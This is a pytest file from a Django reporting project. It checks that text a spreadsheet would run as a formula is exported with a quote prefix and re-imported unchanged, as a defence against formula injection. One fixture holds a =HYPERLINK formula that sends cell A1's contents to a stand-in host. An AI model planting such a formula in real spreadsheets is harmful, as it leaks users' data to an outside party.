"""Text that a spreadsheet would run as a formula leaves every export as text and comes back
unchanged through the project's importers (issue: formula injection). Numbers stay numbers."""

import datetime
import io
from decimal import Decimal

import pytest
import time_machine
from openpyxl import load_workbook

from tinhdoan.org.models import Unit
from tinhdoan.org.unit_files import units_export, units_import_file
from tinhdoan.programs.tests.factories import make_world
from tinhdoan.reporting.cells import CellInput
from tinhdoan.reporting.models import DataValue
from tinhdoan.reporting.value_files import values_export, values_template_xlsx
from tinhdoan.rollup.report import render_results
from tinhdoan.rollup.saving import values_import_file, values_save
from tinhdoan.rollup.selectors import results_key, unit_results
from tinhdoan.testing import demo_user, make_unit

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://thu.example/?d="&A1, "Bấm để xem")'


def cells_of(data: bytes, sheet: str | None = None) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [c for row in (workbook[sheet] if sheet else workbook.active).iter_rows() for c in row]


@pytest.fixture
def world():
    world = make_world()
    values_save(
        user=None,
        program=world.program,
        cells=[
            CellInput("P-A", "CT01", "2026", "12", comment=LINK),
            CellInput("P-A", "CT04", "2026", "-5", comment="-3 do chuyển đi"),
        ],
    )
    return world


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_formula_comment_is_exported_as_text_and_imported_back_unchanged(world, file_format):
    exported = values_export(program=world.program, file_format=file_format)
    if file_format == "xlsx":
        cells = {c.value: c for c in cells_of(exported)}
        assert [
            (cells[text].data_type, cells[text].quotePrefix) for text in (LINK, "-3 do chuyển đi")
        ] == [("s", True)] * 2
        assert not [c for c in cells.values() if c.data_type == "f"]
        assert cells[-5].data_type == "n"  # a negative number stays a number
    else:
        lines = exported.decode().splitlines()
        assert lines[1] == "P-A,CT01,2026,12,\"'" + LINK.replace('"', '""') + '"'
        assert lines[2] == "P-A,CT04,2026,-5,'-3 do chuyển đi"
    DataValue.objects.all().delete()
    values_import_file(user=None, program=world.program, filename=f"x.{file_format}", data=exported)
    stored = {v.target.code: (v.value, v.comment) for v in DataValue.objects.all()}
    assert stored == {"CT01": (12, LINK), "CT04": (Decimal(-5), "-3 do chuyển đi")}


def test_the_xlsx_template_writes_a_formula_comment_as_text(world):
    data = values_template_xlsx(
        program=world.program, unit=world.commune_a, reporting_period=world.period
    )
    link = next(c for c in cells_of(data, "so_lieu") if c.value == LINK)
    assert (link.data_type, link.quotePrefix) == ("s", True)
    values_import_file(user=world.officer_a, program=world.program, filename="m.xlsx", data=data)
    assert DataValue.objects.get(unit=world.commune_a, target__code="CT01").comment == LINK


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_unit_name_that_looks_like_a_formula_comes_back_unchanged(file_format):
    province = make_unit("TD", kind="provincial_union", name="@SUM(1)")
    make_unit("TD-X", parent=province, name="+Đoàn xã Một")
    exported = units_export(file_format=file_format)
    if file_format == "xlsx":
        names = [c for c in cells_of(exported) if c.column == 2]
        assert [(c.value, c.data_type, c.quotePrefix) for c in names] == [
            ("name", "s", False),
            ("@SUM(1)", "s", True),
            ("+Đoàn xã Một", "s", True),
        ]
    else:
        assert "TD,'@SUM(1),provincial_union" in exported.decode()
    result = units_import_file(f"units.{file_format}", exported)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
    assert Unit.objects.get(code="TD").name == "@SUM(1)"


@time_machine.travel(datetime.datetime(2026, 11, 20, 9, tzinfo=datetime.UTC))
def test_an_explanation_answer_that_looks_like_a_formula_is_text_in_the_report(demo, login):
    approver = login(demo_user("btv.tinhdoan"))
    pk = approver.post(
        "/api/v1/results/explanations",
        {"unit": "TDLS-06040", "period": "2026", "target": "CT01", "message": "Vì sao chậm?"},
        content_type="application/json",
    ).json()["id"]
    officer = login(demo_user("doan.xa_that_khe"))
    answered = officer.post(
        f"/api/v1/results/explanations/{pk}/answer",
        {"answer": "+1"},
        content_type="application/json",
    )
    assert answered.status_code == 200
    unit = Unit.objects.get(code="TDLS-06040")
    results = unit_results(key=results_key(unit=unit, period_code="2026"))
    cells = cells_of(render_results(results, "xlsx"))
    # Excel runs "+1" as a formula once the cell is edited, unless it carries the quote prefix.
    assert [(c.data_type, c.quotePrefix) for c in cells if c.value == "+1"] == [("s", True)]
    assert not [c for c in cells if c.data_type == "f"]
